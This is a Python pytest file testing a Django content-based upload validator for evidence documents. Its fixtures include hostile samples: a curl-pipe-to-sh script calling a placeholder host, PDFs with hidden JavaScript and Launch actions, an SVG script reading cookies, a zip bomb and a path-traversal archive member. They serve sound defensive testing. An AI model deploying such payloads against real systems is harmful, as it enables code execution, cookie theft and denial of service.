"""Evidence uploads are checked by their content (evidence.validation), with real samples built here."""
import hashlib
import io
import os
import struct
import tracemalloc
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile

from evidence.validation import ALLOWED_KINDS, REFUSAL_CODES, CheckedUpload, check_upload, clean_filename

MB = 1024 * 1024
LIMIT = 25 * MB


# --- samples ----------------------------------------------------------------------------------------------------------

def pdf_stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d " % len(data) + extra + b" >>\nstream\n" + data + b"\nendstream"


def make_pdf(*objects: bytes, catalog: bytes = b"", trailer: bytes = b"", prefix: bytes = b"") -> bytes:
    """A small one-page PDF with a correct xref table; `objects` become objects 5, 6, ..."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        pdf_stream(b"0 0 1 RG 4 w 10 10 m 190 190 l S"),
        *objects,
    ]
    out = bytearray(prefix + b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out) - len(prefix))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out) - len(prefix)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R " % (len(bodies) + 1) + trailer + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def make_png() -> bytes:
    """A real 1×1 red PNG."""
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
            + png_chunk(b"IEND", b""))


def make_jpeg() -> bytes:
    """SOI + JFIF APP0 header + filler + EOI: enough for content detection."""
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8" + app0 + b"\xff\xdb" + bytes(200) + b"\xff\xd9"


CONTENT_TYPES = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
}
MAIN_PART = {"docx": "word/document.xml", "docm": "word/document.xml", "xlsx": "xl/workbook.xml",
             "pptx": "ppt/presentation.xml"}


def make_ooxml(kind: str, *, extra: dict[str, bytes] | None = None, big_member: tuple[str, int] | None = None,
               compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """DOCX/XLSX/PPTX (or a DOCM) with [Content_Types].xml, _rels/.rels and the main part."""
    part = MAIN_PART[kind]
    types = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
             'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
             'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
             f'<Override PartName="/{part}" ContentType="{CONTENT_TYPES[kind]}"/></Types>')
    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/officeDocument" Target="{part}"/></Relationships>')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        zf.writestr("[Content_Types].xml", types)
        zf.writestr("_rels/.rels", rels)
        zf.writestr(part, '<?xml version="1.0" encoding="UTF-8"?><document>Laporan kegiatan ZI</document>')
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
        if big_member:
            name, size = big_member
            with zf.open(name, "w") as member:
                for _ in range(size // MB):
                    member.write(bytes(MB))
    return buf.getvalue()


def make_odf(kind: str, *, extra: dict[str, bytes] | None = None) -> bytes:
    """ODT/ODS: `mimetype` first and stored, then the manifest and content."""
    mimetype = {"odt": "application/vnd.oasis.opendocument.text",
                "ods": "application/vnd.oasis.opendocument.spreadsheet",
                "odp": "application/vnd.oasis.opendocument.presentation"}[kind]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(zipfile.ZipInfo("mimetype"), mimetype, compress_type=zipfile.ZIP_STORED)
        zf.writestr("META-INF/manifest.xml", '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:'
                    f'names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
                    f'manifest:media-type="{mimetype}"/></manifest:manifest>')
        zf.writestr("content.xml", '<?xml version="1.0"?><office:document-content/>')
        for name, data in (extra or {}).items():
            zf.writestr(name, data)
    return buf.getvalue()


def make_zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(zipfile.ZipInfo(name), data)
    return buf.getvalue()


def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data)


def refused(uploaded, *, max_bytes: int = LIMIT) -> ValidationError:
    with pytest.raises(ValidationError) as info:
        check_upload(uploaded, max_bytes=max_bytes)
    error = info.value
    assert error.code in REFUSAL_CODES
    return error


def message(error: ValidationError) -> str:
    return " ".join(error.messages)


# --- accepted ---------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("name", "data", "kind", "safe_name"), [
    ("laporan.pdf", make_pdf(), "pdf", "laporan.pdf"),
    ("foto.png", make_png(), "png", "foto.png"),
    ("foto.jpg", make_jpeg(), "jpeg", "foto.jpg"),
    ("Foto Kegiatan.JPEG", make_jpeg(), "jpeg", "Foto Kegiatan.jpeg"),
    ("notulen.docx", make_ooxml("docx"), "docx", "notulen.docx"),
    ("anggaran.xlsx", make_ooxml("xlsx"), "xlsx", "anggaran.xlsx"),
    ("paparan.pptx", make_ooxml("pptx"), "pptx", "paparan.pptx"),
    ("surat.odt", make_odf("odt"), "odt", "surat.odt"),
    ("rekap.ods", make_odf("ods"), "ods", "rekap.ods"),
])
def test_real_documents_of_each_accepted_kind_are_accepted(name, data, kind, safe_name):
    result = check_upload(upload(name, data), max_bytes=LIMIT)
    assert result == CheckedUpload(kind=kind, content_type=ALLOWED_KINDS[kind][1], safe_name=safe_name,
                                   size=len(data), sha256=hashlib.sha256(data).hexdigest())


def test_allowed_kinds_map_each_kind_to_extension_and_mime_type():
    assert set(ALLOWED_KINDS) == {"pdf", "jpeg", "png", "docx", "xlsx", "pptx", "odt", "ods"}
    assert ALLOWED_KINDS["pdf"] == ("pdf", "application/pdf")
    assert ALLOWED_KINDS["jpeg"] == ("jpg", "image/jpeg")


def test_sha256_equals_hashlib_on_the_same_bytes():
    data = make_png() + os.urandom(5000)  # trailing bytes after IEND: still a PNG by content
    assert check_upload(upload("a.png", data), max_bytes=LIMIT).sha256 == hashlib.sha256(data).hexdigest()


def test_pdf_with_bom_or_whitespace_before_the_header_is_accepted():
    assert check_upload(upload("a.pdf", b"\xef\xbb\xbf\r\n" + make_pdf()), max_bytes=LIMIT).kind == "pdf"


def test_office_kind_comes_from_the_content_and_a_missing_extension_is_added():
    assert check_upload(upload("rekap anggaran", make_ooxml("xlsx")), max_bytes=LIMIT).safe_name == \
        "rekap anggaran.xlsx"


def test_a_dot_that_is_not_a_file_type_extension_stays_part_of_the_name():
    result = check_upload(upload("Notulen Rapat 12.03.2024", make_pdf()), max_bytes=LIMIT)
    assert result.safe_name == "Notulen Rapat 12.03.2024.pdf"


def test_jfif_extension_of_a_jpeg_becomes_jpg():
    assert check_upload(upload("foto.jfif", make_jpeg()), max_bytes=LIMIT).safe_name == "foto.jpg"


def test_path_in_the_upload_name_is_dropped_and_the_pdf_accepted():
    result = check_upload(upload("../../etc/passwd.pdf", make_pdf()), max_bytes=LIMIT)
    assert (result.kind, result.safe_name) == ("pdf", "passwd.pdf")


def test_name_that_cleans_to_nothing_gets_the_fallback_and_the_right_extension():
    uploaded = upload("x.pdf", make_pdf())
    uploaded.name = "..."  # Django's own name cleaning would already reject this; other callers may not
    assert check_upload(uploaded, max_bytes=LIMIT).safe_name == "berkas.pdf"


def test_long_name_is_cut_to_150_characters_keeping_the_extension():
    result = check_upload(upload("a" * 300 + ".pdf", make_pdf()), max_bytes=LIMIT)
    assert len(result.safe_name) == 150 and result.safe_name.endswith("a.pdf")


def test_binary_image_data_that_happens_to_contain_js_is_not_taken_for_a_script():
    image = b"\xff\xd8\xff\xe0\x00\x10JFIF" + os.urandom(3000) + b"\x00/JS (x) /JS 12 0 R\x01" + os.urandom(3000)
    data = make_pdf(pdf_stream(image, b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode"))
    assert check_upload(upload("scan.pdf", data), max_bytes=LIMIT).kind == "pdf"


def test_compressed_object_stream_without_active_content_is_accepted():
    objects = b"5 0 << /Producer (Kantor) >>"
    objstm = pdf_stream(zlib.compress(objects), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    assert check_upload(upload("a.pdf", make_pdf(objstm)), max_bytes=LIMIT).kind == "pdf"


def test_object_without_chunks_method_is_read_with_read_and_rewound():
    data = make_pdf()

    class Plain(io.BytesIO):
        name = "laporan.pdf"
        size = len(data)

    plain = Plain(data)
    plain.seek(10)
    assert check_upload(plain, max_bytes=LIMIT).sha256 == hashlib.sha256(data).hexdigest()
    assert plain.tell() == 0


@pytest.mark.parametrize("kind", ["pdf", "docx"])
def test_60_mb_temporary_upload_is_read_in_chunks_with_little_memory_and_rewound(kind):
    size = 60 * MB
    uploaded = TemporaryUploadedFile(f"besar.{kind}", "application/octet-stream", 0, None)
    digest = hashlib.sha256()

    def write(data: bytes):
        uploaded.write(data)
        digest.update(data)

    if kind == "pdf":
        write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n"
              b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R "
              b"/MediaBox [0 0 200 200] >>\nendobj\n5 0 obj\n"
              b"<< /Type /XObject /Subtype /Image /Filter /DCTDecode /Length "
              + str(size).encode() + b" >>\nstream\n\xff\xd8\xff\xe0")
        for _ in range(size // MB):
            write(os.urandom(MB))
        write(b"\nendstream\nendobj\ntrailer\n<< /Size 6 /Root 1 0 R >>\n%%EOF\n")
    else:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
            zf.writestr("[Content_Types].xml", '<Types><Override PartName="/word/document.xml"/></Types>')
            zf.writestr("word/document.xml", "<document/>")
            zf.writestr("word/media/image1.jpeg", os.urandom(size))
        write(buf.getvalue())
        del buf
    uploaded.size = uploaded.file.tell()
    tracemalloc.start()
    try:
        tracemalloc.reset_peak()
        before = tracemalloc.get_traced_memory()[0]
        result = check_upload(uploaded, max_bytes=100 * MB)
        peak = tracemalloc.get_traced_memory()[1] - before
    finally:
        tracemalloc.stop()
        uploaded.close()
    assert result.kind == kind
    assert result.size > size
    assert result.sha256 == digest.hexdigest()
    assert peak < 30 * MB, f"peak memory growth {peak / MB:.1f} MB"


def test_file_position_is_back_at_zero_after_acceptance_and_refusal():
    good, bad = upload("a.pdf", make_pdf()), upload("a.pdf", b"MZ" + bytes(500))
    good.seek(5)
    check_upload(good, max_bytes=LIMIT)
    assert refused(bad).code == "berkas_program"
    assert good.tell() == 0 and bad.tell() == 0


# --- refused: size ----------------------------------------------------------------------------------------------------

def test_zero_byte_file_is_refused_as_empty():
    error = refused(upload("kosong.pdf", b""))
    assert error.code == "berkas_kosong"
    assert "«kosong.pdf» kosong" in message(error)


def test_file_over_the_limit_is_refused_naming_the_limit_in_mb():
    error = refused(upload("besar.pdf", make_pdf() + bytes(2 * MB)), max_bytes=1 * MB)
    assert error.code == "berkas_terlalu_besar"
    assert "melebihi batas 1 MB" in message(error)


def test_size_is_checked_before_anything_is_read():
    class Spy(io.BytesIO):
        name = "video.pdf"
        size = 30 * MB
        reads = 0

        def read(self, *args):
            Spy.reads += 1
            return super().read(*args)

        def chunks(self, chunk_size=None):
            Spy.reads += 1
            yield self.read()

    error = refused(Spy(make_pdf()))
    assert error.code == "berkas_terlalu_besar"
    assert "berukuran 30 MB, melebihi batas 25 MB" in message(error)
    assert Spy.reads == 0


def test_file_larger_than_its_declared_size_is_refused_while_reading():
    uploaded = upload("a.pdf", make_pdf() + bytes(2 * MB))
    uploaded.size = 100
    error = refused(uploaded, max_bytes=1 * MB)
    assert error.code == "berkas_terlalu_besar" and "melebihi batas 1 MB" in message(error)


# --- refused: content that is not an accepted kind --------------------------------------------------------------------

def test_windows_program_renamed_pdf_is_refused_as_a_program():
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(50) + b"This program cannot be run in DOS mode.\r\n"
    error = refused(upload("laporan.pdf", exe))
    assert error.code == "berkas_program"
    assert "Berkas «laporan.pdf» bukan PDF yang sah: isinya berkas program Windows" in message(error)
    assert "Unggah dokumen PDF, gambar JPEG/PNG, atau dokumen Office" in message(error)


@pytest.mark.parametrize(("magic", "what"), [(b"\x7fELF\x02\x01\x01", "Linux"), (b"\xcf\xfa\xed\xfe", "macOS")])
def test_linux_and_macos_programs_are_refused_as_programs(magic, what):
    error = refused(upload("foto.jpg", magic + bytes(100)))
    assert error.code == "berkas_program" and what in message(error)


def test_html_renamed_docx_is_refused_as_a_web_page():
    html = b"\xef\xbb\xbf\n  <!DOCTYPE HTML>\n<html><body><script>alert(1)</script></body></html>"
    error = refused(upload("notulen.docx", html))
    assert error.code == "berkas_html"
    assert "«notulen.docx» bukan dokumen DOCX yang sah: isinya halaman web (HTML)" in message(error)


def test_html_starting_with_a_comment_is_still_recognised():
    error = refused(upload("a.pdf", b"<!-- saved -->\n<html><body>x</body></html>"))
    assert error.code == "berkas_html" and "halaman web (HTML)" in message(error)


def test_svg_with_a_script_is_refused_as_svg():
    svg = (b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
           b'height="10"><script>alert(document.cookie)</script></svg>')
    error = refused(upload("logo.png", svg))
    assert error.code == "berkas_svg"
    assert "SVG" in message(error) and "PNG atau JPEG" in message(error)


def test_shell_script_is_refused_as_a_script():
    error = refused(upload("petunjuk.pdf", b"#!/bin/sh\ncurl http://contoh.invalid/x | sh\n"))
    assert error.code == "berkas_skrip"
    assert "skrip" in message(error) and "#!" in message(error)


def test_old_binary_office_document_is_refused_asking_for_docx_or_xlsx():
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)
    error = refused(upload("laporan.doc", ole))
    assert error.code == "office_lama"
    assert "format lama" in message(error) and "DOCX, XLSX" in message(error)


@pytest.mark.parametrize(("magic", "label"), [
    (b"Rar!\x1a\x07\x01\x00", "RAR"), (b"7z\xbc\xaf\x27\x1c\x00\x04", "7z"), (b"\x1f\x8b\x08\x00", "gzip"),
    (bytes(257) + b"ustar\x0000", "tar"),
])
def test_other_archives_are_refused_naming_the_archive_type(magic, label):
    error = refused(upload("bukti.pdf", magic + bytes(600)))
    assert error.code == "arsip_tidak_didukung"
    assert f"arsip {label}" in message(error) and "ekstrak" in message(error)


def test_plain_zip_renamed_xlsx_is_refused_as_a_plain_archive():
    error = refused(upload("data.xlsx", make_zip({"data.csv": b"a,b\n1,2\n", "foto.jpg": make_jpeg()})))
    assert error.code == "arsip_tidak_didukung"
    assert "«data.xlsx» bukan dokumen XLSX yang sah: isinya arsip ZIP biasa" in message(error)


def test_gif_is_refused_asking_for_jpeg_or_png():
    error = refused(upload("grafik.gif", b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + bytes(30)))
    assert error.code == "gambar_tidak_didukung"
    assert "gambar GIF" in message(error) and "JPEG atau PNG" in message(error)


def test_plain_text_is_refused_saying_it_looks_like_text():
    error = refused(upload("daftar.pdf", "Nama,Jabatan\nBudi,Kepala Seksi\n".encode()))
    assert error.code == "jenis_tidak_dikenal"
    assert "teks biasa" in message(error)


def test_unrecognised_binary_is_refused_listing_what_is_accepted():
    error = refused(upload("x.pdf", b"\x00\x01\x02\x03" + os.urandom(200)))
    assert error.code == "jenis_tidak_dikenal"
    assert message(error) == ("Jenis isi berkas «x.pdf» tidak dikenali. Unggah dokumen PDF, gambar JPEG/PNG, atau "
                              "dokumen Office (DOCX, XLSX, PPTX, ODT, ODS).")


# --- refused: PDF -----------------------------------------------------------------------------------------------------

def test_pdf_with_javascript_open_action_is_refused():
    data = make_pdf(b"<< /S /JavaScript /JS (app.alert('x');) >>", catalog=b"/OpenAction 5 0 R")
    error = refused(upload("laporan.pdf", data))
    assert error.code == "pdf_berisi_skrip"
    assert "PDF «laporan.pdf» ditolak karena berisi skrip JavaScript" in message(error)


def test_pdf_javascript_with_hex_escaped_names_is_refused():
    data = make_pdf(b"<< /S /J#61vaScript /#4A#53 <6170702E616C6572742831293B> >>", catalog=b"/OpenAction 5 0 R")
    error = refused(upload("a.pdf", data))
    assert error.code == "pdf_berisi_skrip" and "skrip JavaScript" in message(error)


def test_pdf_javascript_hidden_in_a_compressed_object_stream_is_refused():
    hidden = b"6 0 << /S /JavaScript /JS (app.launchURL('http://contoh.invalid');) >>"
    objstm = pdf_stream(zlib.compress(hidden), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    error = refused(upload("a.pdf", make_pdf(objstm, catalog=b"/OpenAction 6 0 R")))
    assert error.code == "pdf_berisi_skrip" and "JavaScript" in message(error)


def test_pdf_javascript_behind_a_fake_stream_keyword_in_a_string_is_refused():
    # "stream" + newline inside a string, then binary: a naive scanner would skip to the next "endstream".
    data = make_pdf(b"<< /Title (x stream\n\x00\x01) /OpenAction << /S /Rendition /JS (app.alert(1)) >> >>",
                    b"<< /Subject (endstream) >>")
    error = refused(upload("a.pdf", data))
    assert error.code == "pdf_berisi_skrip" and "skrip JavaScript" in message(error)


HIDDEN_JS = make_pdf(
    b"<< /Producer (Kantor) >>",
    pdf_stream(zlib.compress(b"7 0 << /S /J#61vaScript /JS (app.alert(1)) >>"),
               b"/Filter /FlateDecode /Type /ObjStm /N 1 /First 4"),
    pdf_stream(os.urandom(2000), b"/Type /XObject /Subtype /Image /Filter /DCTDecode"),
    catalog=b"/OpenAction 7 0 R")


@pytest.mark.parametrize("where", ["memory", "temporary file"])
def test_pdf_check_gives_the_same_answer_in_memory_and_in_a_temporary_file(where):
    for data, code in ((make_pdf(), None), (HIDDEN_JS, "pdf_berisi_skrip")):
        if where == "memory":
            uploaded = upload("a.pdf", data)
        else:
            uploaded = TemporaryUploadedFile("a.pdf", "application/pdf", len(data), None)
            uploaded.write(data)
        if code is None:
            assert check_upload(uploaded, max_bytes=LIMIT).kind == "pdf"
        else:
            assert refused(uploaded).code == code


def test_pdf_with_launch_action_is_refused():
    data = make_pdf(b"<< /S /Launch /F (cmd.exe) >>", catalog=b"/OpenAction 5 0 R")
    error = refused(upload("a.pdf", data))
    assert error.code == "pdf_berisi_perintah"
    assert "menjalankan program lain (aksi Launch)" in message(error)


def test_pdf_with_embedded_file_is_refused():
    data = make_pdf(pdf_stream(b"MZ\x90\x00", b"/Type /EmbeddedFile"),
                    b"<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>",
                    catalog=b"/Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >>")
    error = refused(upload("a.pdf", data))
    assert error.code == "pdf_berisi_lampiran"
    assert "lampiran tersembunyi" in message(error)


def test_pdf_with_data_before_the_header_is_refused():
    error = refused(upload("a.pdf", make_pdf(prefix=b"garbage before the header\n")))
    assert error.code == "pdf_tidak_sah"
    assert "ada data lain sebelum tanda awal PDF (%PDF-)" in message(error)


def test_encrypted_pdf_whose_object_streams_cannot_be_read_is_refused_as_protected():
    objstm = pdf_stream(b"\x93\x11" + os.urandom(300), b"/Type /ObjStm /N 3 /First 20 /Filter /FlateDecode")
    data = make_pdf(objstm, b"<< /Filter /Standard /V 4 /R 4 /O <00> /U <00> /P -4 >>", trailer=b"/Encrypt 6 0 R")
    error = refused(upload("a.pdf", data))
    assert error.code == "pdf_terenkripsi"
    assert "dilindungi (terenkripsi)" in message(error)


def test_pdf_object_stream_in_an_undecoded_filter_is_refused_as_uncheckable():
    # qpdf decodes the usual filters (ASCIIHex, Flate, LZW, ...), so JavaScript behind them is found (see the
    # hostile-PDF tests); an object stream in an image filter cannot be decoded by anyone, so it is not checked.
    packed = zlib.compress(b"6 0 << /S /JavaScript /JS (x) >>")
    objstm = pdf_stream(packed, b"/Type /ObjStm /N 1 /First 4 /Filter /JBIG2Decode")
    error = refused(upload("a.pdf", make_pdf(objstm)))
    assert error.code == "pdf_tidak_dapat_diperiksa"
    assert "tidak dapat diperiksa" in message(error)


# --- refused: ZIP-based documents -------------------------------------------------------------------------------------

def test_macro_enabled_word_document_renamed_docx_is_refused():
    docm = make_ooxml("docm", extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(100)})
    error = refused(upload("notulen.docx", docm))
    assert error.code == "office_makro"
    assert "«notulen.docx» ditolak karena berisi makro" in message(error)


def test_macro_enabled_content_type_alone_is_refused():
    error = refused(upload("a.docx", make_ooxml("docm")))
    assert error.code == "office_makro" and "berisi makro" in message(error)


def test_vba_project_alone_is_refused():
    xlsm = make_ooxml("xlsx", extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(100)})
    error = refused(upload("a.xlsx", xlsm))
    assert error.code == "office_makro" and "berisi makro" in message(error)


def test_opendocument_with_basic_macros_is_refused():
    odt = make_odf("odt", extra={"Basic/Standard/Module1.xml": b"<script:module/>"})
    error = refused(upload("surat.odt", odt))
    assert error.code == "office_makro" and "makro" in message(error)


def test_other_opendocument_types_are_refused():
    error = refused(upload("paparan.odp", make_odf("odp")))
    assert error.code == "jenis_tidak_didukung"
    assert "opendocument.presentation" in message(error)


def test_zip_bomb_is_refused():
    bomb = make_ooxml("docx", big_member=("word/media/zeros.bin", 120 * MB))
    assert len(bomb) < MB
    error = refused(upload("laporan.docx", bomb))
    assert error.code == "zip_bom"
    assert "zip bomb" in message(error) and "120 MB" in message(error)


def test_zip_with_path_traversal_member_is_refused():
    docx = make_ooxml("docx", extra={"../../evil.sh": b"#!/bin/sh\n"})
    error = refused(upload("a.docx", docx))
    assert error.code == "zip_jalur_berbahaya"
    assert "«../../evil.sh»" in message(error)


def test_zip_announcing_too_many_entries_is_refused_before_reading_them():
    members = {f"word/media/{i}.xml": b"" for i in range(20_001)}
    error = refused(upload("a.docx", make_ooxml("docx", extra=members)))
    assert error.code == "zip_terlalu_banyak_isi" and "20004 bagian" in message(error)


def test_truncated_office_document_is_refused_as_damaged():
    docx = make_ooxml("docx")
    error = refused(upload("a.docx", docx[: len(docx) // 2]))
    assert error.code == "zip_rusak" and "rusak" in message(error)


def test_ooxml_with_two_main_parts_is_refused():
    docx = make_ooxml("docx", extra={"xl/workbook.xml": b"<workbook/>"})
    error = refused(upload("a.docx", docx))
    assert error.code == "office_tidak_sah" and "sekaligus memuat bagian Word, Excel" in message(error)


# --- refused: name and content disagree -------------------------------------------------------------------------------

def test_real_pdf_named_docx_is_refused_as_extension_mismatch():
    error = refused(upload("laporan.docx", make_pdf()))
    assert error.code == "ekstensi_tidak_sesuai"
    assert message(error).startswith("Nama berkas «laporan.docx» berakhiran .docx, tetapi isinya PDF.")
    assert "menjadi .pdf" in message(error)


def test_spreadsheet_named_docx_is_refused_as_extension_mismatch():
    error = refused(upload("laporan.docx", make_ooxml("xlsx")))
    assert error.code == "ekstensi_tidak_sesuai" and "lembar kerja Excel (XLSX)" in message(error)


def test_pdf_with_a_double_extension_ending_in_exe_is_refused():
    error = refused(upload("laporan.pdf.exe", make_pdf()))
    assert error.code == "ekstensi_tidak_sesuai" and "berakhiran .exe, tetapi isinya PDF" in message(error)


# --- clean_filename ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("raw", "clean"), [
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("C:\\Users\\budi\\Dokumen\\SK Tim.pdf", "SK Tim.pdf"),
    ("..\\..\\boot.ini", "boot.ini"),
    ("  ..hidden.pdf", "hidden.pdf"),
    ("lap\x00oran\x07.pdf", "laporan.pdf"),
    ("foto\u202egpj.exe", "fotogpj.exe"),  # right-to-left override removed, so the name shows what it is
    ("Laporan \t\n  Kegiatan   ZI.pdf", "Laporan Kegiatan ZI.pdf"),
    ("Cafe\u0301.pdf", "Caf\u00e9.pdf"),  # NFC
    ("laporan.pdf. . ", "laporan.pdf"),
    ("", "berkas"),
    ("../..", "berkas"),
    ("\x00\x01", "berkas"),
])
def test_clean_filename(raw, clean):
    assert clean_filename(raw) == clean


def test_clean_filename_keeps_the_extension_when_cutting_to_150_characters():
    name = clean_filename("Laporan " * 40 + ".xlsx")
    assert len(name) <= 150 and name.endswith(".xlsx") and name.startswith("Laporan Laporan")
